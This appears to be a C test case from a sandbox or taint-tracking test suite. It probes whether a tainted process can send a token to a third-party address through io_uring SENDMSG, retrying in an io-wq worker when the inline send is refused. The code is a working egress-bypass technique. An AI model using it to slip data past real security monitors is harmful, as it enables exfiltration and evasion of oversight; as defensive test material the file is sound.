/* io_uring_sendmsg.c - attack: a tainted process sends a UDP datagram to a third party with io_uring's SENDMSG (inline and in an io-wq worker). */
#include "attack.h"
#include "uring.h"

#define ROUTE "io_uring_sendmsg"

static int ring_sendmsg(struct at_ring *r, int fd, struct msghdr *msg, unsigned char flags)
{
	struct io_uring_sqe sqe;
	int res;

	memset(&sqe, 0, sizeof(sqe));
	sqe.opcode = IORING_OP_SENDMSG;
	sqe.flags = flags;
	sqe.fd = fd;
	sqe.addr = (uint64_t)(uintptr_t)msg;
	sqe.len = 1;
	res = at_ring_run(r, &sqe);
	return res < 0 ? -res : 0;
}

int main(int argc, char **argv)
{
	struct sockaddr_storage ss;
	struct at_ring ring;
	struct msghdr msg;
	struct iovec iov;
	socklen_t len;
	char tok[128];
	int fd, err;

	if (argc != 3) {
		fprintf(stderr, "usage: " ROUTE " CAMERA A.B.C.D:PORT\n");
		return 2;
	}
	at_taint(ROUTE, argv[1]);
	at_need_inet(ROUTE, argv[2], &ss, &len);
	err = at_ring_init(&ring);
	if (err) {
		at_result(ROUTE, "skip", "io_uring_setup: %s (io_uring unavailable here)", at_errname(err));
		return 0;
	}
	fd = socket(ss.ss_family, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (fd < 0)
		return at_report_errno(ROUTE, "socket", errno);
	iov.iov_base = tok;
	iov.iov_len = at_token(tok, sizeof(tok), ROUTE);
	memset(&msg, 0, sizeof(msg));
	msg.msg_name = &ss;
	msg.msg_namelen = len;
	msg.msg_iov = &iov;
	msg.msg_iovlen = 1;
	/* Inline first, then forced into an io-wq worker thread: both must be judged. */
	err = ring_sendmsg(&ring, fd, &msg, 0);
	if (err == EPERM) {
		err = ring_sendmsg(&ring, fd, &msg, IOSQE_ASYNC);
		if (err)
			return at_report_errno(ROUTE, "io_uring sendmsg (inline, then io-wq)", err);
		at_result(ROUTE, "through", "io_uring sendmsg: EPERM inline, but sent from io-wq");
		return 0;
	}
	if (err)
		return at_report_errno(ROUTE, "io_uring sendmsg", err);
	at_result(ROUTE, "through", "io_uring sendmsg: %zu bytes", iov.iov_len);
	return 0;
}
